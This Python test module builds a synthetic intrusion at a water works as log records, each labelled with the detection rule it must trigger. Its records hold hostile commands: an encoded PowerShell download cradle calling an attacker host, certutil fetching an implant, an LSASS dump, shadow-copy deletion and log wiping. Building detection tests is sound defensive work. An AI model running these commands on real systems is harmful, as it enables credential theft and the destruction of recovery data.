"""The demonstration's scenario: a recorded intrusion among ordinary noise, in the logs of a plant.

SYNTHETIC: everything is invented and written for this purpose. The story: an intruder gets into the
web server of a small water works and puts a document of his own in a place of the customers'
portal. An engineer opens it. It starts a shell, which loads a program that stays on the
workstation, takes the passwords from memory and sends them out in names that it asks for, goes on
to the file server as a service and to the Linux jump host by SSH, and stops a pump's
controller. Then the intruder cuts the network sensor off, destroys the means of recovery and clears
the logs.

The files are as forwarders and sensors write them: `sysmon.jsonl` (winlogbeat), `security.jsonl`
(each event's own JSON form), `auth.log` and nginx's `nginx-access.log` (rsyslog's traditional
format, local time of `zone`), auditd's `audit.log`, Zeek's `conn.log`, `dns.log`, `smb_files.log`
and `s7comm.log`, and Suricata's `eve.json`.
The machines hang together by the attacker's address, 203.0.113.45, by the stolen account and by the
workstation's address, 10.20.1.15. That the sensor falls silent no line tells: see SILENCE.
"""

import base64
from dataclasses import dataclass
from datetime import UTC, tzinfo
from random import Random
from typing import Final

from tests.demo.border import (
    OUTSIDE,
    SENSOR_CUT_S,
    SERVICE_BINARY,
    draft_network,
    draft_web_server,
)
from tests.demo.noise import draft_noise
from tests.demo.plant import (
    OFFICE,
    POWERSHELL_EXE,
    SERVER,
    SYSLOG_FILES,
    SYSTEM32,
    SYSTEM_USER,
    VICTIM,
    WORKSTATION,
    ZEEK_FILES,
    Draft,
    File,
    Machine,
    Pen,
    Process,
    logon,
    subject,
    sudo_line,
)
from tests.demo.render import WindowsRecord, make_sid, write_syslog_3164, write_windows
from tests.demo.sensor_noise import draft_sensor_noise
from tests.demo.sensors import write_audit, write_zeek_header

#: Length of a live play in seconds.
LENGTH_S: Final = 26.0
NOISE_EVENTS: Final = 320
SEED: Final = 20_261_122
#: The attacker's program.
IMPLANT: Final = "C:\\Users\\Public\\nhsync.exe"
STOLEN_LOGON: Final = "0x8f21b4"


@dataclass(frozen=True, slots=True)
class Silence:
    """What no line tells: the log source `source` gives nothing behind `from_s` seconds after the
    start. Once it has been silent for `expect_every_s`, a finding with the title `truth` must
    come."""

    source: str
    from_s: float
    expect_every_s: float
    truth: str
    note: str


SILENCE: Final = Silence(
    "zeek", SENSOR_CUT_S, 10.0, "Log Source Fell Silent", "the plant's network sensor is cut off"
)


@dataclass(frozen=True, slots=True)
class Step:
    """One record to append. `offset_s` is seconds after the start; `line` has no newline at its
    end, and within only where it is an audit event, which has several; `truth` is the title of the
    rule that must fire on it, None where nothing may fire; `note` says what happens."""

    offset_s: float
    file: File
    line: str
    truth: str | None
    note: str


def build_scenario(start: float, zone: tzinfo = UTC) -> list[Step]:
    """The whole play in order of time; the same for the same arguments.

    `start` is the first second (epoch, UTC) and `zone` the time zone of the jump host's clock.
    """
    pen = Pen(start)
    drafts = draft_ordinary(pen, Random(SEED)) + draft_intrusion(pen)
    drafts.sort(key=lambda draft: draft.offset_s)
    numbers: dict[tuple[Machine, File], int] = {}
    steps = []
    for draft in drafts:
        number = numbers.get((draft.machine, draft.file), 51_200)
        numbers[draft.machine, draft.file] = number + 1
        line = write_draft(draft, start, number, zone)
        steps.append(Step(draft.offset_s, draft.file, line, draft.truth, draft.note))
    return steps


def draft_ordinary(pen: Pen, rng: Random) -> list[Draft]:
    """All the noise, in no order."""
    drafts = draft_noise(pen, rng, LENGTH_S, NOISE_EVENTS)
    return drafts + draft_sensor_noise(pen, rng, LENGTH_S, SENSOR_CUT_S)


def draft_intrusion(pen: Pen) -> list[Draft]:
    """All steps of the intrusion, machine by machine."""
    return [
        *draft_web_server(pen),
        *draft_workstation(pen),
        *draft_network(pen),
        *draft_server(pen),
        *draft_jump_host(pen),
    ]


def begin_files(start: float) -> dict[File, str]:
    """What stands at the top of the files that begin with something, before the first record: each
    Zeek log's header, its last newline included. `start` as for the scenario."""
    return {file: write_zeek_header(log, start) + "\n" for log, file in ZEEK_FILES.items()}


def write_draft(draft: Draft, start: float, number: int, zone: tzinfo) -> str:
    """The draft as its file's forwarder writes it, with its record number."""
    time = start + draft.offset_s
    if draft.line:
        return draft.line
    if draft.records:
        return write_audit(time, number, draft.machine.name, draft.records)
    if draft.file in SYSLOG_FILES:
        return write_syslog_3164(
            time, draft.machine.name, draft.program, draft.pid, draft.message, zone
        )
    record = WindowsRecord(
        draft.channel, draft.event_id, draft.machine.name, time, number, dict(draft.fields)
    )
    return write_windows(record, "winlogbeat" if draft.file == "sysmon.jsonl" else "event")


def encode_command(script: str) -> str:
    """A PowerShell script as -EncodedCommand takes it: Base64 of UTF-16."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def draft_workstation(pen: Pen) -> list[Draft]:
    """From the opened document to the passwords, on the engineer's workstation."""

    def run(image: str, line: str, pid: int, parent: Process, *, elevated: bool = False) -> Process:
        return Process(WORKSTATION, image, line, VICTIM, pid, parent, elevated)

    explorer = Process(
        WORKSTATION, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", VICTIM, 3120
    )
    document = "C:\\Users\\r.brandt\\Downloads\\pump offer.docm"
    word = run(OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "{document}"', 6012, explorer)
    cradle = encode_command(f"IEX (New-Object Net.WebClient).DownloadString('http://{OUTSIDE}/o')")
    hidden = f"powershell.exe -nop -w hidden -enc {cradle}"
    shell = run(SYSTEM32 + "cmd.exe", f"cmd.exe /c {hidden}", 6340, word)
    power = run(POWERSHELL_EXE, hidden, 6352, shell)
    fetch_line = f"certutil.exe -urlcache -split -f http://{OUTSIDE}/n.bin {IMPLANT}"
    fetch = run(SYSTEM32 + "certutil.exe", fetch_line, 6420, power)
    implant = run(IMPLANT, IMPLANT, 6488, power)
    task_line = (
        f'schtasks /create /f /sc onlogon /tn "Nordhafen Sync" /tr "{IMPLANT} -k" /ru r.brandt'
    )
    task = run(SYSTEM32 + "schtasks.exe", task_line, 6552, implant)
    dump_line = (
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\nh.bin full"
    )
    dump = run(SYSTEM32 + "rundll32.exe", dump_line, 6604, implant, elevated=True)
    lsass = Process(WORKSTATION, SYSTEM32 + "lsass.exe", "lsass.exe", SYSTEM_USER, 712)
    run_key = f"HKU\\{make_sid('r.brandt')}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\"
    task_xml = (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2"><Triggers><LogonTrigger/>'
        f'</Triggers><Actions Context="Author"><Exec><Command>{IMPLANT}</Command>'
        "<Arguments>-k</Arguments></Exec></Actions></Task>"
    )
    return [
        pen.start_process(4.0, word).labelled(None, "the engineer opens the document"),
        pen.start_process(5.1, shell).labelled(
            "Office Program Starts a Shell or Script Host", "the document starts a shell"
        ),
        pen.start_process(5.4, power).labelled(
            "Encoded PowerShell Command That Downloads", "hidden PowerShell loads the next stage"
        ),
        pen.start_process(6.3, fetch).labelled(
            "certutil Downloads a File", "certutil fetches the program"
        ),
        pen.connect(6.5, fetch, OUTSIDE, 80).labelled(
            "Proxy Binary Talks to an Address Outside", "certutil reaches the attacker's server"
        ),
        pen.start_process(7.4, implant).labelled(
            "Program Started From a Folder Where No Program Belongs", "the program starts"
        ),
        pen.create_pipe(7.6, implant, "\\msagent_3f").labelled(
            "Named Pipe of a Known Attack Framework", "the program opens its control pipe"
        ),
        pen.set_value(8.5, implant, run_key + "NordhafenSync", f"{IMPLANT} -k").labelled(
            "Run Key Set to a Script or a File Users Can Write", "it stays by a Run key"
        ),
        pen.start_process(9.2, task).labelled(
            "Scheduled Task Created That Runs a Script Interpreter", "it stays by a task"
        ),
        pen.security(
            9.3,
            WORKSTATION,
            4698,
            {**subject(VICTIM), "TaskName": "\\Nordhafen Sync", "TaskContent": task_xml},
        ).labelled(
            "Scheduled Task Registered That Runs a Hidden Script (Security Log)",
            "the Security log tells of the same task",
        ),
        pen.start_process(11.2, dump).labelled(
            "LSASS Dump Through comsvcs.dll", "the passwords in memory are dumped"
        ),
        pen.open_process(11.3, dump, lsass, "0x1fffff").labelled(
            "Process Opens LSASS With Rights to Read Its Memory", "the dump opens LSASS"
        ),
    ]


def draft_server(pen: Pen) -> list[Draft]:
    """The service on the file server, the recovery destroyed, the log cleared."""
    services = Process(
        SERVER, SYSTEM32 + "services.exe", "C:\\Windows\\system32\\services.exe", SYSTEM_USER, 684
    )
    path = f"C:\\Windows\\{SERVICE_BINARY}"
    service = Process(SERVER, path, path, SYSTEM_USER, 5220, services)
    shadows = Process(
        SERVER,
        SYSTEM32 + "vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
        SYSTEM_USER,
        5344,
        service,
    )
    clear = Process(
        SERVER, SYSTEM32 + "wevtutil.exe", "wevtutil.exe cl Security", SYSTEM_USER, 5412, service
    )
    write = {
        **subject(VICTIM, STOLEN_LOGON),
        "ObjectType": "File",
        "IpAddress": WORKSTATION.address,
        "IpPort": "50122",
        "ShareName": "\\\\*\\ADMIN$",
        "ShareLocalPath": "\\??\\C:\\Windows",
        "RelativeTargetName": SERVICE_BINARY,
        "AccessMask": "0x2",
        "AccessList": "%%4417\r\n\t\t\t\t",
        "AccessReason": "-",
    }
    install = {
        **subject(VICTIM, STOLEN_LOGON),
        "ServiceName": "kQvB",
        "ServiceFileName": f"%systemroot%\\{SERVICE_BINARY}",
        "ServiceType": "0x10",
        "ServiceStartType": "3",
        "ServiceAccount": "LocalSystem",
    }
    came = logon(VICTIM, WORKSTATION.address, 3, STOLEN_LOGON)
    return [
        pen.security(13.8, SERVER, 4624, came).labelled(
            None, "the stolen account logs on to the file server"
        ),
        pen.security(14.0, SERVER, 5145, write).labelled(
            "Program Written to an Administrative Share", "a program is copied to ADMIN$"
        ),
        pen.security(14.5, SERVER, 4697, install).labelled(
            "Service Installed With a Suspicious Command (Security Log)", "it becomes a service"
        ),
        pen.start_process(14.7, service).labelled(
            "Service Binary With Random Name Runs From the Windows Folder", "the service runs"
        ),
        pen.start_process(20.6, shadows).labelled(
            "Volume Shadow Copies Deleted", "the means of recovery are destroyed"
        ),
        pen.start_process(22.4, clear).labelled(
            "Event Log Cleared or Switched Off by Command", "the Security log is emptied"
        ),
        pen.security(22.6, SERVER, 1102, subject(VICTIM, STOLEN_LOGON)).labelled(
            "Security Log Cleared", "the emptied log's first event says so"
        ),
    ]


def draft_jump_host(pen: Pen) -> list[Draft]:
    """The stolen account on the Linux jump host, then root by password, then the log emptied."""
    source, user = WORKSTATION.address, VICTIM.partition("\\")[2]
    return [
        pen.syslog(
            16.6, "sshd", f"Accepted password for {user} from {source} port 50310 ssh2", 21417
        ).labelled(None, "the stolen account logs in with its password"),
        pen.syslog(17.4, "sudo", sudo_line(user, "/bin/bash")).labelled(
            "Interactive Root Shell Through sudo", "it takes a root shell"
        ),
        pen.syslog(
            18.3, "sshd", f"Accepted password for root from {source} port 50344 ssh2", 21460
        ).labelled(
            "Root Logged In Over SSH With a Password", "root's new password works over the network"
        ),
        pen.syslog(
            SENSOR_CUT_S, "sudo", sudo_line(user, "/usr/bin/ssh nh-sw02 no monitor session 1")
        ).labelled(None, "the switch's mirror port goes: the network sensor is blind"),
        pen.syslog(
            23.5, "sudo", sudo_line(user, "/usr/bin/truncate -s 0 /var/log/auth.log")
        ).labelled("Logs or Shell History Destroyed Through sudo", "the tracks are wiped"),
    ]
